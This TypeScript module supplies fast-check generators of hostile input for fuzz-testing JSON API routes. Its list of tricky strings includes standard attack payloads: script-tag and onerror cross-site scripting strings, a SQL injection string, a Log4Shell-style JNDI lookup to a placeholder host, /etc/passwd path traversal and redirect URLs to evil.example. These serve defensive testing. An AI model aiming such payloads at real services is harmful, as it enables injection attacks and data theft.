import fc from 'fast-check';

// fast-check arbitraries for hostile input: the values a careless or malicious client sends to a JSON route.
// Pure (no server imports), so the route fuzz suite and any other test can share them.

export const KB = 1024;
/** parseJsonBody's default limit (server/platform/http/respond.ts). */
export const BODY_LIMIT = 64 * KB;

/** A JSON fragment written into the body text as is: numbers JSON.stringify cannot produce (1e999, 2**53+1 exactly). */
export class RawJson {
  constructor(readonly text: string) {}
}

/** JSON text for a value that may contain RawJson fragments; own `__proto__` keys are kept as keys. */
export function toJsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.entries(value as Record<string, unknown>)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJsonText(v)}`)
      .join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/** An object literal whose keys may include `__proto__` as an own property (as JSON.parse makes them). */
export function ownObject(entries: [string, unknown][]): Record<string, unknown> {
  return Object.fromEntries(entries);
}

const RTL_AND_ZERO_WIDTH = ['\u202E', '\u202D', '\u200F', '\u200E', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u061C'];

/** Strings that have broken parsers, regexes, encoders and databases somewhere. */
export const TRICKY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF',
  'a\uD800b',
  '\uDC00\uD800',
  '😀',
  '👩‍👩‍👧‍👦',
  'e\u0301\u0301\u0301',
  'ＡＢＣ１２３',
  '١٢٣',
  '\u202Egnp.exe',
  'abc\u200B',
  ...RTL_AND_ZERO_WIDTH,
  'שלום עולם',
  'مرحبا',
  'Ω≈ç√∫',
  '𝕳𝖊𝖑𝖑𝖔',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1' --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell-style value, not a template
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..%2F..%2F',
  '%00',
  '%',
  '%ZZ',
  '\\',
  '/',
  '//evil.example',
  'https://evil.example/',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'true',
  'NaN',
  '[]',
  '{}',
  'ln_AAAAAA',
  'ord_000000000AAAAAAAA',
  // Regex food: special characters, and inputs that make backtracking patterns explode.
  '.*',
  '[',
  '(?<x>',
  '\\d+$',
  '(a+)+$',
  `${'a'.repeat(64)}!`,
  `${'1'.repeat(64)}x`,
  // Almost-emails.
  'a@b',
  'SHOPPER@EXAMPLE.COM ',
  'пример@пример.рф',
  'user@[127.0.0.1]',
  '"quoted local"@example.com',
  'a@b@c.example',
  'user+tag@example.com\u0000',
  `${'x'.repeat(250)}@example.com`,
  'a'.repeat(101),
  'a'.repeat(257),
  'a'.repeat(2049),
];

/** Numbers as text: what a query string or a sloppy client sends. */
export const NUMERIC_TEXT: readonly string[] = [
  '0',
  '-0',
  '1',
  '-1',
  '1.5',
  '99',
  '100',
  '101',
  '1e2',
  '1e308',
  '-1e308',
  '1e309',
  '1e-7',
  '5e-324',
  '9007199254740991',
  '9007199254740993',
  '123456789012345678901234567890',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '0b1',
  '0o7',
  '1_000',
  ' 7 ',
  '7abc',
  '١٢',
  '１２',
  '+5',
  '.5',
  '5.',
  '',
];

/** JSON number literals written raw: overflow to Infinity, lose precision, or look like floats. */
export const RAW_NUMBER_LITERALS: readonly string[] = [
  '1e999',
  '-1e999',
  '9007199254740993',
  '123456789012345678901234567890',
  '1.0',
  '1e0',
  '-0',
  '0.0000001',
  '1E+2',
  '5e-324',
];

export const HOSTILE_NUMBERS: readonly number[] = [
  1e308,
  -1e308,
  -0,
  2 ** 53,
  2 ** 53 + 2,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
  Number.MIN_VALUE,
  Number.EPSILON,
  0.1 + 0.2,
  0.5,
  1.5,
  -1,
  0,
  1,
  2,
  99,
  100,
  101,
  2035,
  2 ** 31,
  -(2 ** 31) - 1,
];

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));
const bidiOrInvisible = fc.constantFrom(...RTL_AND_ZERO_WIDTH);

/** At least `min` UTF-16 units (and bytes: every unit here is at least one byte in UTF-8) of one repeated piece. */
export function hugeString(min = 100 * KB, max = 140 * KB): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom('a', 'é', '€', '😀', '\u200B', '\u202E', '<', '%', '"', '\\', '\uD800', 'e\u0301', '0'), fc.integer({ min, max }))
    .map(([piece, n]) => piece.repeat(Math.ceil(n / piece.length)));
}

export const numericText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NUMERIC_TEXT) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.integer().map(String) },
  { weight: 1, arbitrary: fc.bigInt({ min: -(2n ** 80n), max: 2n ** 80n }).map(String) },
);

/** Short hostile strings (no huge ones): unicode of every kind, lone surrogates, RTL and zero-width marks. */
export const shortHostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...TRICKY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.oneof(fc.string({ minLength: 1, maxLength: 1 }), loneSurrogate, bidiOrInvisible), maxLength: 20 }) },
  { weight: 2, arbitrary: numericText },
);

/** Strings that fit in a 64 KB body but not in any field's maximum. */
export const longString: fc.Arbitrary<string> = hugeString(3 * KB, 20 * KB);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.integer() },
);

/** Any JSON value a client could send in place of a field (wrong types, odd numbers, nesting), plus raw literals. */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 4, arbitrary: shortHostileString },
    { weight: 1, arbitrary: longString },
    { weight: 3, arbitrary: hostileNumber },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_NUMBER_LITERALS).map((t) => new RawJson(t)) },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(tie('value'), { maxLength: 3 }) },
    { weight: 1, arbitrary: fc.dictionary(shortHostileString, tie('value'), { maxKeys: 3 }) },
  ),
})).value;

/** Keys a client might add: prototype keys, privileges, prices. */
export const extraKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'price', 'unitPrice', 'total', 'amount', 'isAdmin', 'groups', 'userId', 'id', 'role', 'version'),
  shortHostileString,
);

/**
 * A body built from a valid one: each field kept, dropped or replaced by a hostile value (recursively into nested
 * objects), extra fields added, or the whole thing swapped for an array or a scalar.
 */
export function mutatedBody(template: Record<string, unknown>): fc.Arbitrary<unknown> {
  const mutateObject = (obj: Record<string, unknown>, depth: number): fc.Arbitrary<Record<string, unknown>> => {
    const fields = Object.entries(obj).map(([key, value]) => {
      const options: fc.Arbitrary<{ keep: boolean; value?: unknown }>[] = [
        fc.constant({ keep: true, value }),
        fc.constant({ keep: false }),
        hostileJsonValue.map((v) => ({ keep: true, value: v })),
      ];
      if (value !== null && typeof value === 'object' && !Array.isArray(value) && depth < 3) {
        options.push(mutateObject(value as Record<string, unknown>, depth + 1).map((v) => ({ keep: true, value: v })));
      }
      return fc
        .oneof({ arbitrary: options[0]!, weight: 3 }, ...options.slice(1).map((arbitrary) => ({ arbitrary, weight: 1 })))
        .map((choice) => [key, choice] as const);
    });
    return fc.tuple(fc.tuple(...fields), fc.array(fc.tuple(extraKey, hostileJsonValue), { maxLength: depth === 0 ? 3 : 1 })).map(([chosen, extras]) => {
      const entries: [string, unknown][] = [];
      for (const [key, choice] of chosen) if (choice.keep) entries.push([key, choice.value]);
      for (const [key, value] of extras) entries.push([key, value]);
      return ownObject(entries);
    });
  };
  return fc.oneof(
    { weight: 8, arbitrary: mutateObject(template, 0) },
    { weight: 1, arbitrary: mutateObject(template, 0).map((o) => [o]) },
    { weight: 1, arbitrary: hostileJsonValue },
  );
}

/** Text that is not JSON (JSON.parse throws), or almost is. */
export function malformedJsonText(template: Record<string, unknown>): fc.Arbitrary<string> {
  const valid = JSON.stringify(template);
  return fc
    .oneof(
      fc.constantFrom(
        '{',
        '}',
        '[',
        '{"a":}',
        "{'a':1}",
        '{"a":1,}',
        '[1,2,]',
        'undefined',
        'NaN',
        '{"a":NaN}',
        '{"a":Infinity}',
        '{"a":-}',
        '{"a":01}',
        '{"a":"\\x41"}',
        '{"a":"\u0001"}',
        '\uFEFF{}',
        '{}{}',
        '{"a":1}{"b":2}',
        '// comment\n{}',
        '/* c */ {}',
        'nul',
        'tru',
        '"unterminated',
        '{"a":"\\uD83"}',
        '\u0000',
        '<xml/>',
        'a=1&b=2',
        '{"a" 1}',
        '{a:1}',
        '[[[[[[[[[[',
      ),
      // A valid body cut short, or with one character flipped.
      fc.integer({ min: 1, max: Math.max(1, valid.length - 1) }).map((n) => valid.slice(0, n)),
      fc
        .tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.constantFrom('{', '}', '"', ',', ':', '\\', ']'))
        .map(([i, c]) => valid.slice(0, i) + c + valid.slice(i + 1)),
      fc.string({ minLength: 1, maxLength: 40 }),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
    )
    .filter((text) => {
      if (text.trim() === '') return false;
      try {
        // Request.text() drops a leading byte-order mark, so '\uFEFF{}' arrives as '{}'.
        JSON.parse(text.replace(/^\uFEFF/, ''));
        return false;
      } catch {
        return true;
      }
    });
}

/** How an oversized body arrives: with its true length, without one (chunked), with a lie, or only declared. */
export type OversizeTransport = 'content-length' | 'no-length' | 'lying-length' | 'stream' | 'declared-only';

/** Valid-looking JSON text over `limit` bytes: a padded template, a deep array, or multi-byte text that is under the limit in characters. */
export function oversizedJsonText(template: Record<string, unknown>, limit = BODY_LIMIT): fc.Arbitrary<string> {
  return fc.oneof(
    hugeString(limit + 1, limit + 80 * KB).map((pad) => JSON.stringify({ ...template, pad })),
    fc.integer({ min: Math.floor(limit / 2) + 1, max: limit }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
    // Fewer characters than the limit, more bytes: the limit is in bytes.
    fc.constant(JSON.stringify({ ...template, pad: '€'.repeat(Math.ceil(limit / 3) + 10) })),
    fc.integer({ min: limit + 1, max: 2 * limit }).map((n) => `"${'x'.repeat(n)}"`),
  );
}

export const oversizeTransport: fc.Arbitrary<OversizeTransport> = fc.constantFrom('content-length', 'no-length', 'lying-length', 'stream', 'declared-only');

/** A valid query with each parameter kept, dropped or replaced by a hostile value, and unknown ones added. */
export function mutatedQuery(template: Record<string, string>): fc.Arbitrary<string> {
  const value = fc.oneof({ weight: 3, arbitrary: shortHostileString }, { weight: 2, arbitrary: numericText }, { weight: 1, arbitrary: hugeString() });
  const fields = Object.entries(template).map(([key, v]) =>
    fc
      .oneof(
        { weight: 3, arbitrary: fc.constant<string | null>(v) },
        { weight: 1, arbitrary: fc.constant<string | null>(null) },
        { weight: 2, arbitrary: value },
      )
      .map((chosen) => [key, chosen] as const),
  );
  return fc.tuple(fc.tuple(...fields), fc.array(fc.tuple(extraKey, shortHostileString), { maxLength: 2 })).map(([chosen, extras]) => {
    const params = new URLSearchParams();
    for (const [k, v] of chosen) if (v !== null) params.append(k, v);
    for (const [k, v] of extras) params.append(k, v);
    return params.toString();
  });
}

/** Query-string text for a route that knows `keys`: hostile values, unknown keys, repeats and broken escapes. */
export function hostileQuery(keys: readonly string[], template?: Record<string, string>): fc.Arbitrary<string> {
  const key = keys.length > 0 ? fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...keys) }, { weight: 1, arbitrary: extraKey }) : extraKey;
  const value = fc.oneof({ weight: 3, arbitrary: shortHostileString }, { weight: 2, arbitrary: numericText }, { weight: 1, arbitrary: hugeString() });
  const encoded = fc.array(fc.tuple(key, value), { maxLength: 5 }).map((pairs) => {
    const params = new URLSearchParams();
    for (const [k, v] of pairs) params.append(k, v); // lone surrogates become U+FFFD, as a browser would send them
    return params.toString();
  });
  const rawPieces = fc.constantFrom(
    '%',
    '%%',
    '%ZZ',
    '%E0%A4%A',
    '%ED%A0%80',
    '%F0%9F',
    '%FF%FE',
    '%C0%AF',
    '%00',
    '&&&',
    '=',
    '==',
    '&=&',
    '+++',
    'a[]=1&a[]=2',
    'a[b]=1',
    ...keys.flatMap((k) => [`${k}`, `${k}=`, `${k}=%00`, `${k}=%ED%A0%80`, `${k}=1&${k}=abc`, `${k}[]=1`, `${k}=${'9'.repeat(400)}`]),
  );
  const raw = fc.array(rawPieces, { minLength: 1, maxLength: 4 }).map((parts) => parts.join('&'));
  return fc.oneof(
    { weight: template ? 3 : 0, arbitrary: template ? mutatedQuery(template) : encoded },
    { weight: template ? 1 : 0, arbitrary: fc.constant(new URLSearchParams(template).toString()) },
    { weight: 3, arbitrary: encoded },
    { weight: 2, arbitrary: raw },
    { weight: 1, arbitrary: fc.tuple(encoded, raw).map(([a, b]) => `${a}&${b}`) },
  );
}

/** A path segment as a client could send it (Next hands route handlers the decoded value). */
export const hostilePathParam: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: shortHostileString },
  { weight: 1, arbitrary: hugeString() },
  { weight: 1, arbitrary: fc.constantFrom('.', '..', '...', 'a/b', '%2F', '%2e%2e', ' ', 'ln_', 'ord_', `ln_${'A'.repeat(41)}`, `ord_${'z'.repeat(300)}`) },
);

/** Header values must be byte strings: UTF-8 bytes read as Latin-1, as a raw header arrives at Node. */
export function asHeaderValue(s: string): string {
  // Buffer's UTF-8 encoder turns a lone surrogate into U+FFFD, as a browser's would.
  const latin1 = Buffer.from(s, 'utf8').toString('latin1');
  // CR, LF and NUL cannot be sent in a header at all.
  return latin1.replace(/[\r\n\0]/g, '');
}

/** Content-Type values a JSON route can be sent. */
export const contentType: fc.Arbitrary<string | null> = fc.oneof(
  { weight: 6, arbitrary: fc.constant('application/json') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      null,
      'text/plain',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'multipart/form-data; boundary=xyz',
      'application/x-www-form-urlencoded',
      'application/xml',
      'application/JSON',
      '*/*',
      '',
    ),
  },
);

/** encodeURIComponent that never throws: a lone surrogate is sent as U+FFFD, as a browser would. */
export function encodePathSegment(s: string): string {
  return encodeURIComponent(Buffer.from(s, 'utf8').toString('utf8'));
}
